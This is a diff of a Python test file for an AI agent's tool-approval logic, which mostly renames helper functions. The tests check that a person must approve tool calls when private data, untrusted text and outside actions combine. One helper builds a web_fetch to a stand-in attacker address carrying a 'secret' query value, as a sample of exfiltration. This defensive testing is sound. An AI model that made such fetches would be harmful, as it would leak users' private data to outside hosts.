@@ -7,12 +7,12 @@ from typing import Any
 import pytest
 from pydantic import ValidationError
 
-from heartbeat.agents.tools.approval_reasons import combined, reason
+from heartbeat.agents.tools.approval_reasons import combined_risks, reason_to_ask
 from heartbeat.agents.tools.built_in.tools import BUILT_IN
 from heartbeat.agents.tools.definitions import OfferedTool
 from heartbeat.agents.tools.mcp import stdio
-from heartbeat.agents.tools.offered_tools import ConnectedServer, define, offered
-from heartbeat.domain.tool_risks import OUTSIDE_ACTION, PRIVATE_DATA, REGISTERED, RISKS, UNTRUSTED_TEXT, declared
+from heartbeat.agents.tools.offered_tools import ConnectedServer, offered, offered_tools_of
+from heartbeat.domain.tool_risks import OUTSIDE_ACTION, PRIVATE_DATA, REGISTERED, RISKS, UNTRUSTED_TEXT, declared_risks
 from heartbeat.settings import Settings, StdioTool
 from tests.support.connected_servers import entry, server
 from tests.support.patience import PATIENCE
@@ -42,20 +42,26 @@ NOBODY, BOTH = (), (PRIVATE_DATA, OUTSIDE_ACTION)
     ],
 )
 def test_a_server_refines_what_its_owner_declared(registered: list[str], notes: dict[str, Any], risks: set) -> None:
-    assert declared(registered, notes) == risks
+    assert declared_risks(registered, notes) == risks
 
 
 def test_all_three_make_the_combination() -> None:
     mail, news, post = ("mail", {PRIVATE_DATA}), ("news", {UNTRUSTED_TEXT}), ("post", {OUTSIDE_ACTION})
-    assert combined([]) is combined([mail, news]) is combined([mail, post]) is combined([news, post]) is None
-    assert combined([post, news, mail]) == ("mail", "news")
-    assert combined([("all", RISKS), mail, news]) == ("all", "all")
+    assert (
+        combined_risks([])
+        is combined_risks([mail, news])
+        is combined_risks([mail, post])
+        is combined_risks([news, post])
+        is None
+    )
+    assert combined_risks([post, news, mail]) == ("mail", "news")
+    assert combined_risks([("all", RISKS), mail, news]) == ("all", "all")
 
 
 def asking(*connected: ConnectedServer) -> list[str]:
     """The tools whose calls need a person's yes by the combination; `web_fetch` of an address of the model's own."""
     fetch = json.dumps({"url": "https://evil.example/?q=secret"})
-    return [tool.name for tool in define(connected) if reason(tool, fetch, NOBODY)]
+    return [tool.name for tool in offered_tools_of(connected) if reason_to_ask(tool, fetch, NOBODY)]
 
 
 def desk(*risks: str, **fields: Any) -> ConnectedServer:
@@ -88,15 +94,15 @@ def test_what_is_switched_off_does_not_count_and_what_is_paused_does() -> None:
 
 
 def test_the_reason_names_what_is_combined() -> None:
-    *_, act = define([desk(*BOTH)])
-    asked = reason(act, "{}", NOBODY)
+    *_, act = offered_tools_of([desk(*BOTH)])
+    asked = reason_to_ask(act, "{}", NOBODY)
     assert asked is not None
     assert (asked.reason, asked.why.partition(".")[0]) == (
         "combination",
         "This agent can read private data (desk__look) and text that others may have written (web_fetch)",
     )
     registered = OfferedTool("x", "", {}, needs_approval=True, risks=act.risks, combined=act.combined)
-    assert reason(registered, "{}", NOBODY) == REGISTERED
+    assert reason_to_ask(registered, "{}", NOBODY) == REGISTERED
 
 
 NEWS = "https://news.example/a?b=1"
@@ -119,16 +125,16 @@ NEWS = "https://news.example/a?b=1"
     ],
 )
 def test_an_address_that_the_owner_wrote_says_nothing_new(words: str, asks: bool) -> None:
-    fetch = define([desk(PRIVATE_DATA)])[0]
+    fetch = offered_tools_of([desk(PRIVATE_DATA)])[0]
     assert fetch.name == "web_fetch"
-    assert (reason(fetch, json.dumps({"url": NEWS}), ("Be brief.", words)) is not None) is asks
-    assert (reason(fetch, json.dumps({"url": f"{NEWS}/"}), (words, "")) is not None) is asks
+    assert (reason_to_ask(fetch, json.dumps({"url": NEWS}), ("Be brief.", words)) is not None) is asks
+    assert (reason_to_ask(fetch, json.dumps({"url": f"{NEWS}/"}), (words, "")) is not None) is asks
 
 
 @pytest.mark.parametrize("arguments", ["", "{", "[]", "null", "{}", '{"url": 1}', '{"url": ["https://a.example"]}'])
 def test_a_fetch_that_is_no_fetch_is_no_owners(arguments: str) -> None:
-    fetch = define([desk(PRIVATE_DATA)])[0]
-    assert reason(fetch, arguments, ("https://a.example",)) is not None
+    fetch = offered_tools_of([desk(PRIVATE_DATA)])[0]
+    assert reason_to_ask(fetch, arguments, ("https://a.example",)) is not None
 
 
 def test_the_other_built_in_tools_declare_nothing() -> None:
@@ -140,7 +146,7 @@ async def test_the_operator_declares_in_the_settings(monkeypatch: pytest.MonkeyP
     own = StdioTool(command=sys.executable, args=list(STDIO[1:]), risks=[PRIVATE_DATA, OUTSIDE_ACTION])
     settings = Settings(_env_file=None, stdio_tools={"desk": own}, tool_timeout_seconds=PATIENCE)
     found = {tool.name: tool for tool in await offered("bot_1", [], settings)}
-    assert reason(found["desk__book"], "{}", NOBODY)
-    assert reason(found["desk__read_note"], "{}", NOBODY) is None
+    assert reason_to_ask(found["desk__book"], "{}", NOBODY)
+    assert reason_to_ask(found["desk__read_note"], "{}", NOBODY) is None
     with pytest.raises(ValidationError, match="private_data"):
         StdioTool.model_validate({"command": "x", "risks": ["danger"]})
